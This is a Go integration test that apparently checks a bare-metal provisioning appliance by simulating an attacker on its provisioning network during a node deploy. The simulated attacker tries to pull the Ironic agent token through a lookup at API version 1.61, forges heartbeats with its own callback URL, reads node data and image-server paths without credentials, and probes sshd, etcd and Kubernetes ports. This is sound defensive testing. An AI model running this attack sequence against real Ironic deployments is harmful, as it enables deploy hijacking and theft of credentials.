package firstboot

import (
	"bytes"
	"cmp"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/bootstick/bootstick/internal/kube"
	"github.com/bootstick/bootstick/internal/render"
	"github.com/bootstick/bootstick/internal/vsite"
)

// attackerAddr is a machine of the test's on the provisioning network
// that the site does not name: anyone who plugs into that network.
const attackerAddr = "172.22.0.66"

// refusedPorts are this machine's services the provisioning network must
// not reach (the site opens none): sshd, the API server, etcd (client
// and peer), the kubelet, the controller manager and the scheduler.
var refusedPorts = []struct {
	name string
	port int
}{
	{"sshd", 22}, {"the API server", 6443}, {"etcd", 2379}, {"etcd's peers", 2380},
	{"the kubelet", 10250}, {"the controller manager", 10257}, {"the scheduler", 10259},
}

// attackResult is what the attacker tried and what it got: lines, each
// try and its answer, and wrongs, what it got that it must not have.
type attackResult struct {
	lines, wrongs []string
}

func (r *attackResult) saw(format string, args ...any) {
	r.lines = append(r.lines, fmt.Sprintf(format, args...))
}

func (r *attackResult) wrong(format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	r.lines = append(r.lines, "WRONG: "+msg)
	r.wrongs = append(r.wrongs, msg)
}

// startAttacker is issue 27's attacker: while host (boot MAC mac)
// deploys, a machine at attackerAddr on the provisioning network tries to
// take its deploy and the appliance's secrets. It starts now and waits,
// watching Ironic as BMO does, until host's deploy ramdisk has looked
// itself up and called back (the moment its agent token exists); then it
//   - looks host up by its MAC as the ramdisk does, at the API versions
//     that answer (1.62 and up: the token masked) and at 1.61, which
//     Ironic 29.0.5 answers with the token itself unless patched
//     (images/patches/ironic-lookup-below-1.62-discloses-token.patch);
//   - heartbeats as host with the token it got, with none, and with a
//     callback URL of its own (Ironic's commands and the config drive
//     would follow that URL);
//   - reads host's node without credentials, and Ironic's image server's
//     folders and host's iPXE script;
//   - connects to sshd, the API server, etcd and the kubelet here.
//
// The returned func, called once host is provisioned, waits for the
// attacker and reports each try and its answer; the test fails on any answer that gives something away, and
// when the deploy ended before the attacker could try.
func startAttacker(t *testing.T, ctx context.Context, vs *vsite.Site, host, mac string) (report func()) {
	ctx, cancel := context.WithCancel(ctx)
	done := make(chan attackResult, 1)
	go func() { done <- attack(ctx, vs, host, mac) }()
	return func() {
		t.Helper()
		// The attacker ends on its own once it tried, or once the node is
		// active; only an Ironic that stopped answering keeps it.
		var r attackResult
		select {
		case r = <-done:
		case <-time.After(5 * time.Minute):
			cancel()
			r = <-done
		}
		cancel()
		if l := lineWith(ironicLog(), "refused: below API version 1.62"); l != "" {
			r.saw("Ironic's log: %s", l)
		}
		t.Logf("the attacker at %s, on the provisioning network while %s deployed:\n  %s", attackerAddr, host, strings.Join(r.lines, "\n  "))
		for _, w := range r.wrongs {
			t.Errorf("the attacker at %s: %s", attackerAddr, w)
		}
	}
}

// deployWindow is host's node while its deploy ramdisk runs the deploy:
// it has looked itself up (its token exists) and called back (agentURL).
type deployWindow struct {
	uuid, state, agentURL string
}

// waitDeployWindow watches Ironic (as BMO, with its credentials, once
// firstboot has made them) until host's node deploys with its agent
// called back, and returns the client it watched with. It says why it
// stopped otherwise: the node went active first, or ctx ended.
func waitDeployWindow(ctx context.Context, host string) (deployWindow, *ironicAPI, error) {
	var last string
	var api *ironicAPI
	for {
		var w deployWindow
		var err error
		if api == nil {
			api, err = ironicAdminNow(ctx)
		}
		if api != nil {
			w, err = deployingNode(ctx, api, host)
		}
		switch {
		case err != nil:
			last = err.Error()
		case w.agentURL != "" && (w.state == "wait call-back" || w.state == "deploying"):
			return w, api, nil
		case w.state == "active":
			return w, api, fmt.Errorf("%s's node went active before the attacker saw its deploy ramdisk call back", host)
		default:
			last = fmt.Sprintf("node %s, agent %q", w.state, w.agentURL)
		}
		select {
		case <-ctx.Done():
			return w, api, fmt.Errorf("waiting for %s's deploy ramdisk to call back (last: %s): %w", host, last, ctx.Err())
		case <-time.After(2 * time.Second):
		}
	}
}

// ironicAdminNow is ironicAdmin with this machine's cluster, or why
// there is none yet.
func ironicAdminNow(ctx context.Context) (*ironicAPI, error) {
	c, err := kube.Load(adminConf)
	if err != nil {
		return nil, err
	}
	return ironicAdmin(ctx, c)
}

// deployingNode reads host's node as BMO would.
func deployingNode(ctx context.Context, api *ironicAPI, host string) (deployWindow, error) {
	var nodes struct {
		Nodes []struct {
			UUID               string         `json:"uuid"`
			Name               string         `json:"name"`
			ProvisionState     string         `json:"provision_state"`
			DriverInternalInfo map[string]any `json:"driver_internal_info"`
		} `json:"nodes"`
	}
	if err := api.do(ctx, http.MethodGet, "/v1/nodes?fields=uuid,name,provision_state,driver_internal_info", nil, &nodes); err != nil {
		return deployWindow{}, err
	}
	for _, n := range nodes.Nodes {
		if n.Name == "metal3~"+host {
			url, _ := n.DriverInternalInfo["agent_url"].(string)
			return deployWindow{uuid: n.UUID, state: n.ProvisionState, agentURL: url}, nil
		}
	}
	return deployWindow{}, fmt.Errorf("no node of %s in Ironic yet", host)
}

func attack(ctx context.Context, vs *vsite.Site, host, mac string) attackResult {
	var r attackResult
	w, admin, err := waitDeployWindow(ctx, host)
	if err != nil {
		r.wrong("it had no deploy to attack: %v", err)
		return r
	}
	r.saw("%s's node %s is in %q, its deploy ramdisk called back from %s", host, w.uuid, w.state, w.agentURL)
	src := netip.MustParseAddr(attackerAddr)
	// The attacker trusts any certificate: it wants answers, not
	// assurance (the provisioning CA is no secret either).
	client := &http.Client{Timeout: 30 * time.Second, Transport: &http.Transport{
		DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
			return vs.DialFrom(ctx, src, network, addr)
		},
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
	}}
	defer client.CloseIdleConnections()
	call := func(method, url, version string, body any) (int, string, error) {
		var rd io.Reader
		if body != nil {
			data, _ := json.Marshal(body)
			rd = bytes.NewReader(data)
		}
		req, err := http.NewRequestWithContext(ctx, method, url, rd)
		if err != nil {
			return 0, "", err
		}
		req.Header.Set("Content-Type", "application/json")
		if version != "" {
			req.Header.Set("X-OpenStack-Ironic-API-Version", version)
		}
		resp, err := client.Do(req)
		if err != nil {
			return 0, "", err
		}
		defer resp.Body.Close()
		data, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<20))
		return resp.StatusCode, string(data), nil
	}
	api := fmt.Sprintf("https://%s:%d", m3Address, render.IronicAPIPort)

	// Lookup, as the deploy ramdisk does it, at every version.
	got := "" // the token an answer gave
	for _, v := range []string{"", "1.61", "1.62", "latest"} {
		code, body, err := call(http.MethodGet, api+"/v1/lookup?addresses="+mac, v, nil)
		what := fmt.Sprintf("lookup of %s at API version %s", mac, cmp.Or(v, "(none)"))
		if err != nil {
			r.wrong("%s: %v (the attacker could not reach Ironic's API: nothing was tried)", what, err)
			continue
		}
		var answer struct {
			Config struct {
				AgentToken *string `json:"agent_token"`
			} `json:"config"`
		}
		json.Unmarshal([]byte(body), &answer)
		switch tok := answer.Config.AgentToken; {
		case tok != nil && *tok != "******":
			r.wrong("%s: %d, and the agent token itself (%d characters)", what, code, len(*tok))
			got = *tok
		case code == http.StatusOK:
			r.saw("%s: %d, the token masked (%s)", what, code, fmt.Sprint(deref(tok)))
		default:
			r.saw("%s: %d %s", what, code, firstLine(body))
		}
	}
	// Heartbeats as the host: with what a lookup gave, with none, and
	// with a callback URL of its own.
	token := cmp.Or(got, "******")
	for _, hb := range []struct {
		what string
		body map[string]any
	}{
		{"with the masked token, at the host's callback URL", map[string]any{"callback_url": w.agentURL, "agent_token": token, "agent_version": "10.2.0"}},
		{"with no token", map[string]any{"callback_url": w.agentURL, "agent_version": "10.2.0"}},
		{"with a callback URL of its own", map[string]any{"callback_url": "https://" + attackerAddr + ":9999", "agent_token": token, "agent_version": "10.2.0"}},
	} {
		code, body, err := call(http.MethodPost, api+"/v1/heartbeat/"+w.uuid, "1.68", hb.body)
		what := "heartbeat as " + host + " " + hb.what
		switch {
		case err != nil:
			r.wrong("%s: %v", what, err)
		case code < 300:
			r.wrong("%s: %d, Ironic took it", what, code)
		default:
			r.saw("%s: %d %s", what, code, firstLine(body))
		}
	}
	if after, err := deployingNode(ctx, admin, host); err == nil && after.agentURL != w.agentURL && after.agentURL != "" {
		r.wrong("%s's callback URL is now %s, not its deploy ramdisk's %s", host, after.agentURL, w.agentURL)
	}
	// The node, its instance (the config drive, the user data) and
	// Ironic's image server, without credentials.
	if code, body, err := call(http.MethodGet, api+"/v1/nodes/"+w.uuid+"?fields=instance_info,driver_info", "latest", nil); err != nil || code < 300 {
		r.wrong("the node's instance and driver info without credentials: %d %v %.200s", code, err, body)
	} else {
		r.saw("the node's instance and driver info without credentials: %d %s", code, firstLine(body))
	}
	// A virtual-media ISO (which carries its node's agent token) is
	// served only under the secret path Ironic gives the BMC: its public
	// path answers 404 whether the ISO is there or not.
	images := fmt.Sprintf("http://%s:%d", m3Address, render.ImagePort)
	for _, path := range []string{"/", "/" + w.uuid + "/", "/" + w.uuid + "/config", render.DeployRamdiskFolder, "/images/", "/packages/",
		"/redfish/", "/redfish/boot-" + w.uuid + ".iso"} {
		code, body, err := call(http.MethodGet, images+path, "", nil)
		what := "Ironic's image server " + path
		switch {
		case err != nil:
			r.wrong("%s: %v", what, err)
		case strings.HasPrefix(path, "/redfish/") && code != http.StatusNotFound:
			r.wrong("%s: %d, not 404: the virtual-media ISOs' public path answers", what, code)
		case strings.Contains(body, "Index of") || strings.Contains(body, "<a href="):
			r.wrong("%s: %d, a folder listing", what, code)
		case strings.Contains(body, "agent-token") || got != "" && strings.Contains(body, got):
			r.wrong("%s: %d, an agent token", what, code)
		case code == http.StatusOK:
			r.saw("%s: %d, %d bytes with no agent token (%s)", what, code, len(body), firstLine(body))
		default:
			r.saw("%s: %d", what, code)
		}
	}
	// This machine's own services.
	if c, err := vs.DialFrom(ctx, src, "tcp", net.JoinHostPort(m3Address, fmt.Sprint(render.IronicAPIPort))); err != nil {
		r.wrong("Ironic's API does not take a connection from %s: %v (the refusals below would prove nothing)", attackerAddr, err)
	} else {
		c.Close()
	}
	for _, p := range refusedPorts {
		dctx, cancel := context.WithTimeout(ctx, 20*time.Second)
		c, err := vs.DialFrom(dctx, src, "tcp", net.JoinHostPort(m3Address, fmt.Sprint(p.port)))
		cancel()
		switch {
		case err == nil:
			c.Close()
			r.wrong("%s (%s:%d) took a connection", p.name, m3Address, p.port)
		case errors.Is(err, syscall.EHOSTUNREACH):
			r.saw("%s (%s:%d): refused by the firewall (%v)", p.name, m3Address, p.port, syscall.EHOSTUNREACH)
		default:
			r.wrong("%s (%s:%d): %v, not the firewall's refusal", p.name, m3Address, p.port, err)
		}
	}
	return r
}

func deref(s *string) any {
	if s == nil {
		return nil
	}
	return *s
}

// firstLine is the start of an answer, for a report line.
func firstLine(s string) string {
	s, _, _ = strings.Cut(strings.TrimSpace(s), "\n")
	if len(s) > 160 {
		s = s[:160] + "…"
	}
	return s
}

// lineWith is the first line of log that holds s.
func lineWith(log, s string) string {
	for _, l := range strings.Split(log, "\n") {
		if strings.Contains(l, s) {
			return strings.TrimSpace(l)
		}
	}
	return ""
}
